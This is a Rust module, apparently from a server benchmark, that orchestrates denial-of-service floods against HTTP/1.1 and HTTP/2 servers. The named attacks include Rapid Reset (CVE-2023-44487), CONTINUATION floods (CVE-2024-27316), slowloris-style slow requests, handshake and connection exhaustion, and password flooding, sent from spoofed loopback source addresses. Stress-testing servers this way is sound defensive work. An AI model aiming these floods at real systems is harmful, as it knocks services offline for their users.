//! Client that floods, on its own thread.

mod frames;
mod passwords;
mod plain;
mod slow;
mod spoils;
mod uploads;

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::thread::{self, JoinHandle};
use std::time::Duration;

use anyhow::{Context, Result, anyhow};
use clap::ValueEnum;
use futures_util::future::join_all;
use rustls::pki_types::ServerName;
use tokio::io;
use tokio::net::{TcpSocket, TcpStream};
use tokio::runtime;
use tokio::time::{sleep, timeout};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

pub(crate) use self::spoils::Way;

use sekisho_bench::tls::{Group, Offer, Trust, Version};

/// Frames that cost a server more than a client.
#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
pub(crate) enum Kind {
    Ping,
    Settings,
    WindowUpdate,
    Priority,
    /// A request, and its reset when the answer's head is there
    Reset,
    /// Requests that are reset at once (CVE-2023-44487)
    RapidReset,
    /// A field block that does not end (CVE-2024-27316)
    Continuation,
    /// DATA of one byte
    TinyFrames,
    /// Fields of a megabyte, over HTTP/2
    HugeHeads,
    /// Fields of a megabyte, over HTTP/1.1
    HugeHeadsHttp1,
    /// Requests whose fields come byte by byte
    SlowHeads,
    /// Requests whose bodies come byte by byte
    SlowBodies,
    /// Requests over HTTP/2, 100 at once, each with a byte of its body in 25 s
    SlowStreams,
    /// Answers that nobody reads, over HTTP/1.1
    SlowReading,
    /// Answers for which there is no window, over HTTP/2
    ClosedWindows,
    /// Uploads that fill their windows, over HTTP/2
    FullWindows,
    /// Requests over HTTP/2, 100 at once, and as many again once all are answered
    Crowds,
    /// Idle connections of one prefix; each comes again 500 ms after its end
    Connections,
    /// More connections of HTTP/2 than the server takes, without requests, with rare PINGs
    PingingConnections,
    /// More connections than the server takes, which send nothing and come again
    SilentConnections,
    /// Handshakes that are not finished
    Handshakes,
    /// Requests, one after the other, as fast as they are answered
    Requests,
    /// Requests of few clients, one after the other: the upstream that they ask attacks
    Visits,
    /// Requests at which an upstream fails, each connection in its way
    Spoils,
    /// Chunked bodies of almost a megabyte, whose last chunk comes late
    LateEnds,
    /// A thousand wrong passwords a second, of client networks that have sent few
    Passwords,
    /// Names below the host, over plain HTTP, of four client networks
    PlainNames,
}

impl Kind {
    /// All that attack by themselves.
    pub(crate) const ALL: [Self; 21] = [
        Self::Ping,
        Self::Settings,
        Self::WindowUpdate,
        Self::Priority,
        Self::Reset,
        Self::RapidReset,
        Self::Continuation,
        Self::TinyFrames,
        Self::HugeHeads,
        Self::HugeHeadsHttp1,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::SlowStreams,
        Self::SlowReading,
        Self::ClosedWindows,
        Self::FullWindows,
        Self::Connections,
        Self::PingingConnections,
        Self::SilentConnections,
        Self::Handshakes,
        Self::Requests,
    ];

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Ping => "PING",
            Self::Settings => "SETTINGS",
            Self::WindowUpdate => "WINDOW_UPDATE",
            Self::Priority => "PRIORITY",
            Self::Reset => "late RST_STREAM",
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION",
            Self::TinyFrames => "tiny frames",
            Self::HugeHeads => "huge heads, h2",
            Self::HugeHeadsHttp1 => "huge heads",
            Self::SlowHeads => "slow heads",
            Self::SlowBodies => "slow bodies",
            Self::SlowStreams => "slow streams",
            Self::SlowReading => "slow reading",
            Self::ClosedWindows => "closed windows",
            Self::FullWindows => "full windows",
            Self::Crowds => "crowds",
            Self::Connections => "connections",
            Self::PingingConnections => "pinging connections",
            Self::SilentConnections => "silent connections",
            Self::Handshakes => "handshakes",
            Self::Requests => "requests",
            Self::Visits => "visits",
            Self::Spoils => "spoils",
            Self::LateEnds => "late ends",
            Self::Passwords => "wrong passwords",
            Self::PlainNames => "names over plain HTTP",
        }
    }

    /// Returns how many connections flood at the same time.
    pub(crate) fn connections(self) -> usize {
        match self {
            Self::SlowHeads | Self::SlowBodies | Self::LateEnds => 400,
            Self::SlowReading | Self::ClosedWindows => 200,
            // More than all connections to a server, or turns to compress, with those that wait.
            Self::SlowStreams | Self::Crowds => 13,
            Self::Connections | Self::Handshakes => 1000,
            Self::Passwords => passwords::CONNECTIONS,
            Self::FullWindows | Self::Requests | Self::PlainNames => 64,
            Self::PingingConnections => 230,
            Self::SilentConnections => 6000,
            Self::Visits => 2,
            Self::Spoils => 4 * Way::ALL.len(),
            _ => 1,
        }
    }

    /// Returns the pause before a closed connection is opened again.
    fn pause(self) -> Duration {
        match self {
            Self::FullWindows | Self::Connections => REOPEN,
            Self::PingingConnections | Self::SilentConnections => REOPEN_REFUSED,
            _ => PAUSE,
        }
    }

    /// Returns how many requests each connection leaves unanswered.
    pub(crate) fn streams(self) -> usize {
        match self {
            Self::ClosedWindows | Self::SlowStreams => frames::STREAMS as usize,
            _ => 0,
        }
    }

    fn is_http1(self) -> bool {
        matches!(
            self,
            Self::HugeHeadsHttp1
                | Self::SlowHeads
                | Self::SlowBodies
                | Self::SlowReading
                | Self::Connections
                | Self::Requests
                | Self::Visits
                | Self::Spoils
                | Self::LateEnds
        )
    }
}

/// Whom to flood.
#[derive(Clone, Debug)]
pub(crate) struct Target {
    pub(crate) address: SocketAddr,
    pub(crate) host: String,
    pub(crate) path: String,
    /// More fields of its requests, each with CRLF.
    pub(crate) fields: String,
    /// Second number of the source addresses; None for any address.
    pub(crate) net: Option<u8>,
    /// Connections from one /24.
    pub(crate) per_prefix: usize,
}

/// Result of a flood.
#[derive(Debug, Default)]
pub(crate) struct Sent {
    /// Frames, requests or bytes, by the kind.
    pub(crate) frames: u64,
    pub(crate) connections: u64,
}

/// Flood that runs until it is stopped.
pub(crate) struct Flooding {
    shared: Arc<Shared>,
    thread: JoinHandle<Result<()>>,
}

#[derive(Default)]
struct Shared {
    stop: AtomicBool,
    frames: AtomicU64,
    connections: AtomicU64,
}

impl Flooding {
    pub(crate) fn start(target: &Target, kind: Kind) -> Result<Self> {
        let shared = Arc::new(Shared::default());
        let attacker = Attacker::new(target, kind, Arc::clone(&shared))?;
        let thread = thread::Builder::new().name("flood".into()).spawn(move || {
            // The clients that are measured share the machine with the flood.
            let _ = rustix::process::nice(FLOOD_NICENESS);
            let runtime = runtime::Builder::new_current_thread()
                .enable_all()
                .build()?;
            runtime.block_on(attacker.flood());
            anyhow::Ok(())
        })?;
        Ok(Self { shared, thread })
    }

    pub(crate) fn stop(self) -> Result<Sent> {
        self.shared.stop.store(true, Relaxed);
        let ended = self.thread.join();
        ended.map_err(|_| anyhow!("the flood panicked"))??;
        Ok(Sent {
            frames: self.shared.frames.load(Relaxed),
            connections: self.shared.connections.load(Relaxed),
        })
    }
}

struct Attacker {
    target: Target,
    name: ServerName<'static>,
    kind: Kind,
    tls: TlsConnector,
    shared: Arc<Shared>,
}

impl Attacker {
    fn new(target: &Target, kind: Kind, shared: Arc<Shared>) -> Result<Self> {
        let offer = Offer {
            version: Version::Tls13,
            group: Group::X25519,
            trust: Trust::Anyone,
            resume: None,
        };
        let mut config = offer.config()?;
        if !kind.is_http1() {
            config.alpn_protocols = vec![b"h2".to_vec()];
        }
        Ok(Self {
            name: ServerName::try_from(target.host.clone()).context("a host")?,
            target: target.clone(),
            kind,
            tls: TlsConnector::from(Arc::new(config)),
            shared,
        })
    }

    async fn flood(&self) {
        let connections = (0..self.kind.connections()).map(|number| self.again(number));
        join_all(connections).await;
    }

    /// Floods over one connection after the other. The server is expected to end them:
    /// that limits the flood.
    async fn again(&self, number: usize) {
        while !self.is_stopped() {
            let connection = async {
                let socket = self.connect(number).await?;
                self.connection(number, socket).await
            };
            let stopped = async {
                while !self.is_stopped() {
                    sleep(POLL).await;
                }
            };
            tokio::select! {
                _ = connection => {}
                () = stopped => return,
            }
            sleep(self.kind.pause()).await;
        }
    }

    async fn connect(&self, number: usize) -> io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        if let Some(net) = self.target.net {
            let source = match self.kind {
                Kind::Passwords => self.next_network(net),
                _ => {
                    let prefix = match self.kind {
                        Kind::PlainNames => number % 4,
                        _ => number / self.target.per_prefix,
                    };
                    let prefix = u8::try_from(prefix);
                    let low = u8::try_from(number % 250).unwrap_or_default() + 1;
                    Ipv4Addr::new(127, net, prefix.unwrap_or(u8::MAX), low)
                }
            };
            socket.set_reuseaddr(true)?;
            socket.bind(SocketAddr::from((source, 0)))?;
        }
        if self.kind == Kind::SlowReading {
            socket.set_recv_buffer_size(SMALL_BUFFER)?;
        }
        let socket = timeout(CONNECT, socket.connect(self.target.address)).await??;
        socket.set_nodelay(true)?;
        self.shared.connections.fetch_add(1, Relaxed);
        Ok(socket)
    }

    async fn connection(&self, number: usize, socket: TcpStream) -> io::Result<()> {
        match self.kind {
            Kind::Handshakes => return self.unfinished_handshake(socket).await,
            Kind::SilentConnections => return self.silent(socket).await,
            Kind::PlainNames => return self.plain_names(socket).await,
            _ => {}
        }
        let connecting = self.tls.connect(self.name.clone(), socket);
        let mut stream: TlsStream<TcpStream> = timeout(CONNECT, connecting).await??;
        match self.kind {
            Kind::Ping | Kind::Settings | Kind::WindowUpdate | Kind::Priority => {
                self.control_frames(stream).await
            }
            Kind::Reset => self.late_resets(&mut stream).await,
            Kind::RapidReset => self.rapid_resets(stream).await,
            Kind::Continuation => self.continuations(stream).await,
            Kind::TinyFrames => self.tiny_frames(stream).await,
            Kind::HugeHeads => self.huge_heads(stream).await,
            Kind::SlowStreams => self.slow_streams(stream).await,
            Kind::Passwords => self.wrong_passwords(stream).await,
            Kind::ClosedWindows => self.closed_windows(&mut stream).await,
            Kind::FullWindows => self.full_windows(stream).await,
            Kind::Crowds => self.crowds(&mut stream).await,
            Kind::HugeHeadsHttp1 => self.huge_head(stream).await,
            Kind::SlowHeads => self.slow_head(&mut stream).await,
            Kind::SlowBodies => self.slow_body(&mut stream).await,
            Kind::LateEnds => self.late_ends(&mut stream).await,
            Kind::SlowReading => self.slow_reading(&mut stream).await,
            Kind::PingingConnections => self.pings(stream).await,
            Kind::Connections | Kind::Handshakes | Kind::SilentConnections | Kind::PlainNames => {
                self.idle(&mut stream).await
            }
            Kind::Requests | Kind::Visits => self.requests(&mut stream).await,
            Kind::Spoils => self.spoil(&mut stream, Way::of(number)).await,
        }
    }

    fn sent(&self, frames: u64) {
        self.shared.frames.fetch_add(frames, Relaxed);
    }

    fn is_stopped(&self) -> bool {
        // Relaxed: the flag orders nothing else, and one more write does not
        // matter.
        self.shared.stop.load(Relaxed)
    }
}

const FLOOD_NICENESS: i32 = 19;
/// Each of 6,000 connections looks for the end.
const POLL: Duration = Duration::from_millis(200);
/// Before a connection is opened again that costs the server more than the attacker: at
/// most 2,000 handshakes per second.
const REOPEN: Duration = Duration::from_millis(500);
/// Before a connection that the server may have refused: at most 36,000 per second.
const REOPEN_REFUSED: Duration = Duration::from_millis(50);
/// Between two connections.
const PAUSE: Duration = Duration::from_millis(2);
/// Longer than a server lets a connection wait.
const CONNECT: Duration = Duration::from_secs(15);
const SMALL_BUFFER: u32 = 4096;
